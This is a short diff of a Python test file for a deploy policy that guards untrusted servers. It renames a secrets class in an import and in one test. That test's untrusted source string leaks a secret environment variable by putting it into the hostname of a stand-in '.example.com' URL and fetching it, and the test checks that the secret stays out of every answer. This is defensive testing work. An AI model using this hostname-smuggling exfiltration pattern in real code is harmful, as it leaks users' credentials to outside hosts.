@@ -6,7 +6,7 @@ import pytest
 
 from assets.servers.deploy.grants import ServerGrant, mount_folders
 from assets.servers.deploy.policy import DeployPolicy
-from assets.servers.secrets import Secrets, ServerSecrets
+from assets.servers.secrets import SecretSources, ServerSecrets
 from tests.marketplaces.site import Answer, site
 from tests.serving.calling import CONTRACT, PATIENT, Bench, read_text
 from tests.support.untrusted_server import POLICY
@@ -110,7 +110,7 @@ async def test_a_host_that_a_call_was_refused_is_named_with_the_command_that_gra
 
 async def test_a_secret_that_a_server_asks_for_as_a_host_is_in_no_answer(bench, monkeypatch):
     monkeypatch.setenv("MY_KEY", "hunter2-hunter2")
-    secrets = Secrets({"npm:x": ServerSecrets(env={"KEY": "env:MY_KEY"})}, bytes(16))
+    secrets = SecretSources({"npm:x": ServerSecrets(env={"KEY": "env:MY_KEY"})}, bytes(16))
     granted = {"npm:x": ServerGrant(hosts=("localhost:9",), personal=True)}
     policy = DeployPolicy(bench.folder / "home", POLICY, PATIENT, grants=granted, secrets=secrets)
     source = "URLS = ['http://' + os.environ['KEY'] + '.example.com/']\n" + FETCH
